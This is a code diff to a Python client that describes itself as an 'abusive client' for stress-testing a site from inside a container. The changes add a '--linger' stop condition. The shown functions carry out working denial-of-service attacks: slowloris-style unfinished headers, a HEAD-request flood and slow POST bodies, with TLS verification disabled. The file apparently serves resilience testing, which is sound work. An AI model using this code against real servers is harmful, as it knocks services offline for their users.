@@ -1,5 +1,6 @@
 """One abusive client, run INSIDE a container on the site's network (its own address, not the polite
-clients'): python3 and its standard library only. For ``--seconds`` it
+clients'): python3 and its standard library only. For ``--seconds`` (or until ``--linger`` seconds after
+all its slow connections were open at once) it
 
 - keeps ``--slow`` TLS (``--plain``: HTTP) connections open that send a request header a line at a time
   (every ``--interval`` seconds) and never finish it, opening a new one whenever the server drops one;
@@ -23,6 +24,7 @@ from collections import Counter
 from typing import Any
 
 HANDSHAKES_AT_ONCE = 200
+START = time.monotonic()
 FLOOD_CONNECTIONS = 8
 SLOW_PROCESSES = 2
 
@@ -30,8 +32,11 @@ SLOW_PROCESSES = 2
 class Stats:
     """One process's counts; the slow connections open now and at most are shared by the processes."""
 
-    def __init__(self, shared: Any) -> None:
-        self.shared = shared  # (open now, most at once): multiprocessing Values
+    def __init__(self, shared: Any, args: argparse.Namespace) -> None:
+        self.shared = shared  # (open now, most at once, when all were first open at once): multiprocessing Values
+        self.deadline = START + args.seconds
+        self.target = args.slow
+        self.linger = args.linger
         self.slow_opened = 0
         self.slow_dropped = 0
         self.slow_failed = 0
@@ -40,10 +45,19 @@ class Stats:
         self.errors: Counter[str] = Counter()
 
     def slow_open(self, change: int) -> None:
-        now, peak = self.shared
+        now, peak, reached = self.shared
         with now.get_lock():
             now.value += change
             peak.value = max(peak.value, now.value)
+            if peak.value >= self.target and not reached.value:
+                reached.value = time.monotonic()
+
+    def over(self) -> bool:
+        """The attack ends ``--linger`` seconds after all ``--slow`` connections were open at once, or at
+        ``--seconds`` at the latest (a busy machine opens them more slowly)."""
+        reached: float = self.shared[2].value
+        now = time.monotonic()
+        return now >= self.deadline or (reached > 0 and now >= reached + self.linger)
 
     def report(self) -> dict[str, Any]:
         return {
@@ -82,10 +96,8 @@ async def status_of(reader: asyncio.StreamReader, head_request: bool = False) ->
     return status
 
 
-async def slow(
-    args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, gate: asyncio.Semaphore, end: float
-) -> None:
-    while time.monotonic() < end:
+async def slow(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, gate: asyncio.Semaphore) -> None:
+    while not stats.over():
         try:
             async with gate:
                 reader, writer = await connect(args, context)
@@ -98,7 +110,7 @@ async def slow(
         stats.slow_open(1)
         try:
             writer.write(f"GET / HTTP/1.1\r\nHost: {args.domain}\r\n".encode())
-            while time.monotonic() < end:
+            while not stats.over():
                 await writer.drain()
                 try:
                     data = await asyncio.wait_for(reader.read(1024), timeout=args.interval)
@@ -115,10 +127,10 @@ async def slow(
             writer.close()
 
 
-async def flood(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, end: float) -> None:
+async def flood(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats) -> None:
     pause = FLOOD_CONNECTIONS / args.flood
     request = f"HEAD / HTTP/1.1\r\nHost: {args.domain}\r\n\r\n".encode()
-    while time.monotonic() < end:
+    while not stats.over():
         try:
             reader, writer = await connect(args, context)
         except (TimeoutError, OSError, ssl.SSLError) as error:
@@ -127,7 +139,7 @@ async def flood(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats,
             await asyncio.sleep(pause)
             continue
         try:
-            while time.monotonic() < end:
+            while not stats.over():
                 started = time.monotonic()
                 writer.write(request)
                 stats.flood[await asyncio.wait_for(status_of(reader, head_request=True), timeout=10)] += 1
@@ -138,7 +150,7 @@ async def flood(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats,
             writer.close()
 
 
-async def body(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, end: float) -> None:
+async def body(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats) -> None:
     try:
         reader, writer = await connect(args, context)
     except (TimeoutError, OSError, ssl.SSLError) as error:
@@ -147,7 +159,7 @@ async def body(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, 
         return
     try:
         writer.write(f"POST / HTTP/1.1\r\nHost: {args.domain}\r\nContent-Length: 1000000\r\n\r\n".encode())
-        while time.monotonic() < end:
+        while not stats.over():
             await writer.drain()
             try:
                 stats.bodies[await asyncio.wait_for(status_of(reader), timeout=args.interval)] += 1
@@ -165,17 +177,16 @@ async def attack(args: argparse.Namespace, part: dict[str, int], stats: Stats) -
     context = ssl.create_default_context()
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
-    end = time.monotonic() + args.seconds
     gate = asyncio.Semaphore(HANDSHAKES_AT_ONCE)
-    tasks = [slow(args, context, stats, gate, end) for _ in range(part["slow"])]
-    tasks += [body(args, context, stats, end) for _ in range(part["bodies"])]
-    tasks += [flood(args, context, stats, end) for _ in range(part["flood"])]
+    tasks = [slow(args, context, stats, gate) for _ in range(part["slow"])]
+    tasks += [body(args, context, stats) for _ in range(part["bodies"])]
+    tasks += [flood(args, context, stats) for _ in range(part["flood"])]
     await asyncio.gather(*tasks)
     return stats.report()
 
 
 def run_part(args: argparse.Namespace, part: dict[str, int], shared: Any, results: Any) -> None:
-    results.put(asyncio.run(attack(args, part, Stats(shared))))
+    results.put(asyncio.run(attack(args, part, Stats(shared, args))))
 
 
 def parts(args: argparse.Namespace) -> list[dict[str, int]]:
@@ -202,14 +213,17 @@ def main() -> None:
     parser.add_argument("--host", required=True)
     parser.add_argument("--port", type=int, default=443)
     parser.add_argument("--domain", required=True)
-    parser.add_argument("--seconds", type=float, default=30)
+    parser.add_argument("--seconds", type=float, default=30, help="at most this long")
+    parser.add_argument(
+        "--linger", type=float, default=1e9, help="stop this long after all --slow connections were open at once"
+    )
     parser.add_argument("--slow", type=int, default=10000)
     parser.add_argument("--interval", type=float, default=5)
     parser.add_argument("--flood", type=float, default=0, help="HEAD requests a second (0: none)")
     parser.add_argument("--bodies", type=int, default=0)
     parser.add_argument("--plain", action="store_true", help="plain HTTP, not TLS")
     args = parser.parse_args()
-    shared = (multiprocessing.Value("i", 0), multiprocessing.Value("i", 0))
+    shared = (multiprocessing.Value("i", 0), multiprocessing.Value("i", 0), multiprocessing.Value("d", 0.0))
     results: Any = multiprocessing.Queue()
     processes = [multiprocessing.Process(target=run_part, args=(args, part, shared, results)) for part in parts(args)]
     for process in processes:
